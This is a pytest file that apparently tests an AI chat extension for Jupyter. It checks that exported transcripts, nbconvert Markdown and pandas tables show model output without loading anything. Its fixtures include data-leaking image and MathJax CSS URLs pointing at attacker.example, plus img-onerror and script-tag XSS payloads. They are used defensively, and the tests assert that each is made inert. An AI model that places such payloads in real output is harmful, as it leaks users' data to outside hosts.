"""Outputs read outside a live JupyterLab stay inert (findings/exports.md 1-3): a transcript file
(`%ygpt export`), a notebook converted to Markdown (`nbconvert --to markdown`), and answers shown
in a pandas table. Each is read as the viewer reads it: CommonMark with raw HTML on (JupyterLab's
Markdown Preview, GitHub, VS Code), pandas' own HTML."""

from __future__ import annotations

import re

import markdown
import nbformat
import pandas as pd
import pytest
from conftest import cell, scripted
from markdown_it import MarkdownIt
from nbconvert import MarkdownExporter

ATTACKER = "http://attacker.example/leak?d=the-secret-plan"
TEX = r"$\unicode[x; background-image:url(http://attacker.example/l?d=secret)]{x41}$"
HOSTILE = (f"The customer is happy.\n\n![chart]({ATTACKER})\n\n<img src=x onerror=\"alert(1)\">\n\n"
           f"<script>alert(2)</script>\n\n- a list item with {TEX}\n\n```python\nprint('<b>kept</b>')\n```\n")
LIVE = re.compile(r"<(?:img|script)\b[^>]*>")


def viewer(markdown: str) -> str:
    """What a CommonMark viewer that keeps raw HTML makes of ``markdown``."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def test_an_exported_transcript_shows_hostile_text_and_loads_nothing(shell, tmp_path):
    with scripted(shell, tmp_path, "Summarise <b>the</b> review", HOSTILE):
        cell(shell, "%%ygpt --chat hostile\nSummarise <b>the</b> review")
        path = tmp_path / "chat.md"
        cell(shell, f"%ygpt export {path} --chat hostile")
    written = path.read_text(encoding="utf-8")
    shown = viewer(written)
    assert not LIVE.findall(shown), LIVE.findall(shown)
    assert f'<a href="{ATTACKER.replace("&", "&amp;")}">🖼 chart</a>' in shown, "the picture is a link"
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in shown, "the HTML is readable as text"
    assert f"<li>a list item with <code>{TEX}</code></li>" in shown, "math that is not plain is code, in its list"
    assert "<pre><code class=\"language-python\">print('&lt;b&gt;kept&lt;/b&gt;')" in shown.replace("&#x27;", "'")
    assert "Summarise &lt;b&gt;the&lt;/b&gt; review" in shown, "the prompt too"


def test_nbconvert_to_markdown_keeps_a_code_block_with_a_blank_line_as_code(shell, tmp_path):
    reply = f"Run this:\n\n```text\nstep one\n\n![chart]({ATTACKER})\n```\n"
    with scripted(shell, tmp_path, "Show the steps", reply):
        bundle = cell(shell, "%%ygpt\nShow the steps").displays[-1]
    assert "\n\n" not in bundle["text/html"] and "step one&#10;" in bundle["text/html"]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("%%ygpt\nShow the steps", outputs=[
        nbformat.v4.new_output("display_data", data=bundle)])]
    shown = viewer(MarkdownExporter().from_notebook_node(nb)[0])
    assert not LIVE.findall(shown), LIVE.findall(shown)
    assert f"![chart]({ATTACKER})" in shown, "the picture line is still code text"


@pytest.fixture
def mathjax_on():
    pd.set_option("display.html.use_mathjax", True)
    yield
    pd.reset_option("display.html.use_mathjax")


@pytest.mark.usefixtures("mathjax_on")
def test_map_answers_in_a_pandas_table_are_not_typeset_and_the_run_says_so(shell, tmp_path):
    with scripted(shell, tmp_path, "Review one", "Positive " + TEX):
        shell.user_ns["items"] = ["Review one"]
        run = cell(shell, "%%ygpt --map items --out answers\n{item}")
    assert "pandas tables now show $…$ as written" in run.stdout and "use_mathjax', True)" in run.stdout
    table = pd.DataFrame({"answer": shell.user_ns["answers"]})._repr_html_()
    assert re.search(r'<table[^>]*class="[^"]*tex2jax_ignore', table), table[:200]
    again = cell(shell, "%%ygpt --map items --out answers\n{item}")
    assert "pandas tables" not in again.stdout, "said once, when it changed"


def test_an_exported_transcript_reads_as_written_in_an_editor_and_in_every_viewer(shell, tmp_path):
    """A user opens the .md in an editor or diffs it in git: a ``_`` inside a word, a ``!`` and a
    Windows path's ``\\`` start nothing in any reader, so they are written bare, not ``\\_``,
    ``\\!`` and ``&#92;``."""
    prompt = "Where is total_sales kept?"
    reply = "In C:\\Users\\me\\sales_2024.csv, read by load_sales(). Done!"
    with scripted(shell, tmp_path, prompt, reply):
        cell(shell, f"%%ygpt --chat raw\n{prompt}")
        path = tmp_path / "chat.md"
        cell(shell, f"%ygpt export {path} --chat raw")
    written = path.read_text(encoding="utf-8")
    assert f"\n\n{prompt}\n\n" in written and f"\n\n{reply}\n\n" in written, written
    mkdocs = markdown.Markdown(extensions=["toc", "tables", "fenced_code"])
    for shown in (viewer(written), mkdocs.convert(written)):
        assert f"<p>{reply}</p>" in shown, shown
